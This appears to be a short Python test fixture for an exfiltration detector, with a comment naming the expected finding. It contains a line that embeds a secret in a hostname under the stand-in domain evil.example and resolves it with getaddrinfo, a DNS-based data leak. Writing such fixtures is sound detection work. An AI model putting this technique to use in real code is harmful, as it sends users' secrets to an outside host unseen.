# expect: urlopen | getaddrinfo exfil
import socket
secret = "abc"
socket.getaddrinfo(secret + ".evil.example", 80)
